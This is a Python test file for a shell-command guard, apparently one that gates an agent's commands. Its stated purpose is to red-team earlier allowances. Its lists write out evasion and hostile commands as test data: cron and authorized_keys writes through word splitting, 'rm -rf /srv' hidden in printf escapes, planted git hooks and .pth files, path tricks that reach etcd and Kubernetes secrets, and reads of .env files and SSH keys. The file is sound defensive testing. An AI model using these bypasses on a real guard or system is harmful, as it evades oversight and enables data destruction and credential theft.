"""Red team of session 13's allowances (a cd into the home or a deploy root, the tree's
virtualenv, framework migrations, quoted cloud patterns) and of the shell state around them.
Each class it got through, as lines and sessions, beside the ordinary look-alike that must
stay allowed."""

from __future__ import annotations

from sshgate.guard import classify
from sshgate.guard.rules import CODE_FILE

from .expect import TABLE_BUDGET, allowed, each, held
from .test_redteam_s11 import allowed_last, held_last

# --- shell state changed where the parser does not look --------------------------------------
STATE_HELD = [
    # ``{NAME}>file`` assigns the new descriptor's number to NAME
    "{PATH}>/dev/null; ls", "{HOME}</dev/null cd; ls", "ls {PATH}>&-; ls",
    # test -v, [ -v and unset evaluate a subscript of the whole word, NAME=... included
    'test -v "a[PATH=11]"; ls', '[ -v "a[HOME=/tmp]" ] ; ls', "unset 'a[PATH=1]'; ls",
    # wait -p NAME unsets and assigns NAME
    "sleep 1 & wait -n -p PATH; ls", "wait -p HOME; cd; ls",
    # a value with a blank splits: the unquoted word is two paths, not one
    'f="x /etc/cron.d/x"; echo "* * * * * root id" | tee $f',
    'f="out.txt /root/.ssh/authorized_keys"; echo key >> $f',
]
STATE_ALLOWED = [
    "sleep 1 & wait", "sleep 1 & sleep 2 & wait -n", 'test -v HOME && echo set',
    'f=out.txt; echo hi | tee $f', 'f="my notes.txt"; echo hi > "$f"',
    "ls 2>/dev/null", "echo {a,b}", "echo hi >&2",
]


def test_shell_state_changes_are_held() -> None:
    each(STATE_HELD, held)
    each(STATE_ALLOWED, allowed)


# --- curl: its own globs and #N in the output name ---------------------------------------------
CURL_HELD = [
    # --url is a URL like an operand: its globs and user@ are curl's, not the text's
    "cd ~ && curl -s --url 'https://e.example/x/{.bashrc,y}' -o '#1'",
    "curl -s --url 'https://e.example/[1-9]' -o 'out#1.txt'",
    "curl -s --url 'http://localhost:8001/api/v1/secret{s}'",
    "curl -s --url 'https://user@e.example/x'",
    # #N in -o is a glob's match, whatever the URL looks like
    "curl -s https://e.example/x -o '#1'", "curl -s https://e.example/x --output='a#2'",
]
CURL_ALLOWED = [
    "curl -s --url https://e.example/status", "curl -s https://e.example/x -o out.json",
    "curl -sg 'https://e.example/q?a[0]=1'", "curl -s https://e.example/health",
]


def test_curl_globs_and_output_numbers_are_held() -> None:
    each(CURL_HELD, held)
    each(CURL_ALLOWED, allowed)


# --- a listed glob splits when unquoted --------------------------------------------------------
LISTED_HELD = [
    # a file name with a blank (a clone can hold one) splits into operands and options
    "tail -n 40 $(ls -t logs/*.out | head -1)", "sort $(ls -t data/*.csv | head -1)",
    "grep -c ERROR $(ls -tr /var/log/app/*.log | tail -n 1)",
]
LISTED_ALLOWED = [
    'tail -n 40 "$(ls -t logs/*.out | head -1)"',
    'grep -c ERROR "$(ls -tr /var/log/app/*.log | tail -n 1)"',
]


def test_a_listed_glob_is_judged_only_quoted() -> None:
    each(LISTED_HELD, held)
    each(LISTED_ALLOWED, allowed)


# --- what a reviewed code edit may be ---------------------------------------------------------
def _reviewed(line: str) -> tuple[str, ...]:
    return classify(line, seconds=TABLE_BUDGET).reviewed


NOT_REVIEWED = [
    # a tool's state below a project (git's config and hooks, a virtualenv) runs unasked
    # later: never a reviewed code edit, wherever the directory is
    "cd ~/ci && printf '[core]\\n\\tfsmonitor = x\\n' > app/.git/config",
    "cd ~/ci && echo 'rm -rf /srv' > app/.git/hooks/pre-commit",
    "cd /srv/app && echo 'import os' > .venv/lib/python3.11/site-packages/x.pth",
    "echo 'import os' > svc/.venv/lib/python3.11/site-packages/sitecustomize.py",
    # content the shell or printf decodes is not what the reviewer reads
    "printf '\\x72m -rf /srv/data\\n' > job.sh", "printf '\\162m -rf /srv\\n' > job.sh",
    "echo -e '\\x72m -rf /srv/data' > job.sh", "echo -ne '\\u0072m -rf /srv' > job.sh",
    "printf '%b\\n' '\\x72m -rf /srv' > job.sh",
]
REVIEWED = [
    "cd ~/ci && sed -i 's/mode=max/mode=min/' .github/workflows/build.yml",
    "cd ~/ci && echo 'module.exports = {}' > web/.eslintrc.js",
    "printf 'def f():\\n\\treturn 1\\n' > src/f.py", "echo 'echo hi' > job.sh",
]


def test_a_reviewed_edit_is_project_code_in_view() -> None:
    each(NOT_REVIEWED, lambda line: _assert(not _reviewed(line), line))
    each(REVIEWED, lambda line: _assert(bool(_reviewed(line)), line))


def _assert(ok: bool, line: str) -> None:
    assert ok, (line, classify(line, seconds=TABLE_BUDGET).findings)


def test_go_templates_are_code() -> None:
    # helmfile and gomplate templates run functions (exec, env) when rendered
    assert CODE_FILE.search("helmfile.d/values.yaml.gotmpl")
    assert CODE_FILE.search("templates/deploy.gotmpl")


# --- serialised objects are code to whatever loads them ---------------------------------------
PICKLE_SESSIONS = [
    ("curl -s -o model.pkl https://e.example/m.pkl", "python serve.py model.pkl"),
    ("curl -s -o w.pt https://e.example/w.pt", "python infer.py w.pt"),
    ("curl -s -o m.joblib https://e.example/m", "python score.py m.joblib"),
    ("curl -s -o a.npy https://e.example/a", "python plot.py a.npy"),
]
DATA_SESSIONS = [
    ("curl -s -o data.csv https://e.example/d.csv", "python plot.py data.csv"),
    ("python gen.py > out.tsv", "python analyze.py out.tsv"),
]


def test_a_pickle_written_earlier_is_code_to_a_script() -> None:
    each(PICKLE_SESSIONS, held_last)
    each(DATA_SESSIONS, allowed_last)


# --- a URL's path as the server reads it -------------------------------------------------------
URL_HELD = [
    "curl -s http://127.0.0.1:2379//v2/keys/", "curl -s http://127.0.0.1:2379/./v2/keys",
    "curl -s http://127.0.0.1:2379/x/../v2/keys/", "curl -s 'http://127.0.0.1:8500/v1/kv;x/'",
    "curl -s http://localhost:8001//api/v1/namespaces/x/secrets",
    "curl -s http://localhost:8001/api/v1/./secrets", "wget -qO- http://127.0.0.1:2379//v2/keys",
    "curl -s localhost:8001/api/v1/x/../secrets",
]
URL_ALLOWED = [
    "curl -s https://e.example/a/b/c.json", "curl -s 'http://localhost:9090/api/v1/query?query=up'",
    "curl -s https://e.example//x", "curl -s http://127.0.0.1:8080/./health",
]


def test_a_url_path_is_judged_as_the_server_reads_it() -> None:
    each(URL_HELD, held)
    each(URL_ALLOWED, allowed)


# --- a project's files named for a secret ------------------------------------------------------
NAMED_HELD = [
    "grep x .env", "grep -f .env src", "rg -e x ~/.ssh/id_rsa",
    "cat config/secret.exs", "cat k8s/db-secret.yaml", "head secrets-prod.yaml",
    "cat deploy/service-account.json", "jq . auth.json", "cat config/db_password.yml",
    "less ~/app/.vault-token",
]
NAMED_ALLOWED = [
    "cat config/secretary.rb", "grep -rn password src/", "cat app/models/reset_password.py",
    "cat tokenizer.json", "terraform plan -var-file=envs/prod.tfvars",
    # a search tool's pattern names no file (tuning corpus s14)
    "grep -rn 'process.env' src/ | head -20", "rg -n process.env src",
    "grep -rn '~/.ssh/id_rsa' docs/",
]


def test_project_files_named_for_secrets_are_held() -> None:
    each(NAMED_HELD, held)
    each(NAMED_ALLOWED, allowed)
